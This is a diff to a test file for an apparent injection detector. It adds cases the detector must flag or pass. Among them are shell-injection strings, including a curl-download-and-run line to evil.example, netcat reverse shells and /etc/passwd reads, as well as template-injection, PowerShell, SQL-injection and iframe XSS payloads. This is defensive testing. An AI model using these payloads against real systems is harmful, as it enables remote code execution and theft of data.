@@ -3249,7 +3249,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   for (const v of ['b&w', 'B&W prints', 'Q&A', 'photo b&w; 10 cm']) t.same(q(v), [], v)
   for (const v of ['a&w -h', 'x&w>f', '1&w', 'x&&w', "'&w", 'x&id', 'b&w|id', 'x&w <f']) t.ok(q(v).includes('rce'), `still read: ${v}`)
   // (second review) a quote, `^` or `=` glued to the letter makes another program of it: `b&w''atch 'curl …'` ran `watch`
-  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami']) {
+  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami', 'b&w;eval touch /tmp/e1', 'b&w;exec touch /tmp/e2', 'b&w;command touch /tmp/e3', 'b&w;x=1 touch /tmp/e4', 'b&w;! touch /tmp/e5', "b&w; eval 'touch /tmp/e6'"]) {
     t.ok(q(v).includes('rce'), `still read: ${v}`)
   }
   // (review) what follows `w` is judged too: a substitution, a comment then a line, a redirection by its descriptor ran in bash
@@ -3266,6 +3266,10 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   for (const v of ["'${require('child_process').execSync('id')}'", "'${T(java.lang.Runtime).getRuntime().exec('id')}'", '\'${system("id")}\'', "'${@print(md5(1))}'", '\'x${run("id")}\'', '{${phpinfo()}}']) {
     for (const head of ["resource x 'Microsoft.Web/sites@2022-01-01' = {\n", "module m 'x.bicep' = {\n"]) t.ok(json({ id: 7, code: head + v }).includes('rce'), `still read: ${head}${v}`)
   }
+  // (third review) PHP's `trim`, `max`, `join`, `range`, `array` and `empty` are Bicep's names too: only plain arguments or Bicep's own calls
+  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}']) {
+    t.ok(json({ id: 7, code: `resource site 'Microsoft.Web/sites@2022-03-01' = {\n  name: ${v}\n}` }).includes('rce'), `still read: ${v}`)
+  }
   // a static site's page that moved: a refresh to a path on the same site
   t.same(json({ body: '---\ntitle: Redirecting…\n---\n\n<meta http-equiv="refresh" content="0; url=/contributing/measure/troubleshooting/#standby-power-shows-0-w">' }), [], "a page's refresh")
   t.same(q("<meta http-equiv=refresh content='0;url=/docs/'/>"), [], 'unquoted, closed')
@@ -3278,7 +3282,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   // PowerShell's pipeline after a quoted path
   t.same(json({ id: 7, snippet: '$currentVersionPath = Get-ChildItem "$poshgitPath\\*posh-git*\\" | Sort-Object -Property LastWriteTime | Select-Object -Last 1\n' }), [], "PowerShell's pipeline")
   // (review) only after a cmdlet's own line: a quote a value closes is still a break-out, and the line after it is judged
-  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', '"x" | Where-Object -Property Name -eq "a"']) {
+  for (const v of ['"x" | Sort-Object -Property Name\nStart-Process calc', 'x" | Sort-Object -Property Name\nwhoami', '"x" | Select-Object -First 1 | Format-Table\nStop-Computer', '"x" | Where-Object -Property Length -GT 0\r\nid', 'Get-Item x\rwhoami\r" | Sort-Object -Property Name', 'x" -Filter a <#\nGet-ChildItem y #> | Sort-Object -Property Name\nwhoami', 'x -Filter a <#\nGet-ChildItem y #> | Select-Object -First 1\nStart-Process calc.exe', '"x" | Where-Object -Property Name -eq "a"']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
   for (const v of ['"x" | Sort-Object -Property { Start-Process calc }', '"x" | Where-Object -FilterScript {$_.x}', '"x" | Select-Object -Property Name | Out-File -FilePath c:\\x.txt', '"x" | Sort-Object -Property Name; id', '"x" | Sort-Object -Property Name | iex', '"x" | Sort-Object $(id)']) {
@@ -3289,4 +3293,20 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   for (const v of ["' select (1)", '1 select (1)', 'x select (1)--', 'x select (select 1)', 'x select (user)', 'x) select (1)']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
   // (review) a name selects what the database holds (`intersect select (session_user)` returned `postgres`), and a query's own word continues it
   for (const v of ['intersect select (session_user)', 'id select (system_user)', 'x select (password)', 'except select (1)', 'union select (1)', 'then select (1)', 'where select (1)']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
+})
+
+t.test("thirty-eighth round, after the thirty-fifth part's measurement: a Coq proof's tactics, a video site's player", async (t) => {
+  // SSReflect chains tactics with `;` and gives them views and rules: no program has their names, and the value holds a proof
+  const proof = 'Lemma mono_leif (f : T -> T) C :\n    {mono f : x y / x <= y} ->\n  forall x y, (f x <= f y ?= iff C) = (x <= y ?= iff C).\nProof. by move=> mf x y; rewrite /leif !eq_le !mf. Qed.\n'
+  t.same(json({ id: 7, code: proof }), [], "a Coq proof")
+  t.same(json({ id: 7, code: 'Proof.\ncase: b1 b2 => [bb1 b1 |//] [bb2 b2 |//].\ncase: bb1; case: bb2; rewrite /= !bnd_simp mulrzDr.\n- exact: lerD.\nQed.\n' }), [], 'case analysis')
+  for (const v of ['x; rewrite /leif', 'Proof. x; nc -e /bin/sh 127.0.0.1 4444. Qed.', 'Proof. x; curl -o /tmp/x http://127.0.0.1/x. Qed.', 'Proof. x; cat /etc/passwd. Qed.']) t.ok(q(v).includes('rce'), `still read: ${v}`)
+  // a post's video as the site gives it to paste
+  t.same(json({ description: '## Rationale\n\nThe rationale and vision behind julia.\n\n~~~<iframe width="560" height="315" src="https://www.youtube.com/embed/02U9AJMEWx0" style="border:none;" allowfullscreen></iframe>~~~' }), [], "a post's video")
+  t.same(q('<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>'), [], "Vimeo's player")
+  for (const v of ['<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>', '<iframe src="https://evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x" style="background:url(javascript:alert(1))"></iframe>', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x/../../redirect?q=//evil.example"></iframe>', '<iframe src="https://www.youtube.com/embed/x" name="x"></iframe>', '<iframe src="http://www.youtube.com/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="//evil.example/x"></iframe>']) {
+    t.ok(q(v).includes('xss'), `still read: ${v}`)
+  }
+  // decoded markup is no embed as sent
+  t.ok(q('&lt;iframe src=&quot;https://www.youtube.com/embed/x&quot; onload=alert(1)&gt;&lt;/iframe&gt;').includes('xss'), 'entities')
 })
